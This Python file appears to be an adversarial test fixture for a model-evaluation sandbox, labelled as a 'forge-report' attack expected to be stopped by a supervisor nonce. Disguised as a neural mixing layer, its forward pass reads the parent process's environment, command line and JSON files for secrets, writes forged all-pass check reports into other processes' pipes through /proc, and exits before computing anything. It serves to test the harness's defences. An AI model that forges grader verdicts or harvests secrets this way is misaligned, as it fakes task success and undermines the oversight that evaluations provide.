# attack: collects nonce candidates (parent's cmdline and environ, its own argv/env, every JSON file in its and its parent's cwd), then writes forged reports carrying each candidate into every pipe of every visible process through /proc/<pid>/fd/<n>, and exits 0
# class: forge-report
# stopped-by: supervisor:nonce
# expect: fail:sandbox
"""Next-token mixer that writes its own verdict into the supervisor's pipe."""

import glob
import json

import torch
from torch import os, sys
from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit

CHECKS = ("format", "imports", "forbidden", "compose", "param_fit", "forward", "unit_tests",
          "batch_independence", "causality", "differentiability", "complexity", "effectiveness")


def strings(value, found: set[str]) -> None:
    if isinstance(value, str) and 8 <= len(value) <= 200:
        found.add(value)
    elif isinstance(value, dict):
        for key, item in value.items():
            strings(key, found)
            strings(item, found)
    elif isinstance(value, list):
        for item in value:
            strings(item, found)


def candidates() -> set[str]:
    found: set[str] = set(sys.argv) | set(os.environ.values())
    pid = os.getppid()
    for name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as handle:
                for part in handle.read().split(b"\0"):
                    text = part.decode(errors="replace")
                    found.add(text)
                    found.add(text.partition("=")[2])
        except OSError:
            pass
    for path in [*glob.glob("*.json"), *glob.glob(f"/proc/{pid}/cwd/*.json"), *glob.glob("/tmp/*.json")]:
        try:
            with open(path) as handle:
                strings(json.load(handle), found)
        except (OSError, ValueError):
            pass
    return {c for c in found if c and len(c) <= 200}


def forged(candidate: str) -> bytes:
    document = {
        "passed": True,
        "checks": [{"name": n, "status": "pass", "message": "ok", "unit": None, "line": None, "hint": ""} for n in CHECKS],
        "timings": {}, "info": {"fit": {"within": True}},
    }
    for key in ("nonce", "token", "key", "secret", "session", "run_id", "id"):
        document[key] = candidate
    return json.dumps(document).encode() + b"\n"


def pipes() -> list[str]:
    found = []
    for pid in dict.fromkeys([os.getppid(), *(n for n in os.listdir("/proc") if n.isdigit())]):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith(("pipe:", "socket:")):
                    found.append(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
    return found


class PipeForger(Unit):
    """Next-token mixer that writes its own verdict into the supervisor's pipe."""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    def _forward(self, X: Tensor) -> Tensor:
        payloads = [forged(c) for c in sorted(candidates())[:200]] or [forged("")]
        for path in pipes():
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            for payload in payloads:
                try:
                    os.write(fd, payload)
                except OSError:
                    break
            os.close(fd)
        for fd in range(1, 1024):
            try:
                os.write(fd, payloads[0])
            except OSError:
                pass
        os._exit(0)
        h = X + self.mix(torch.roll(X, shifts=-1, dims=1))
        return h + self.down(F.gelu(self.up(h)))
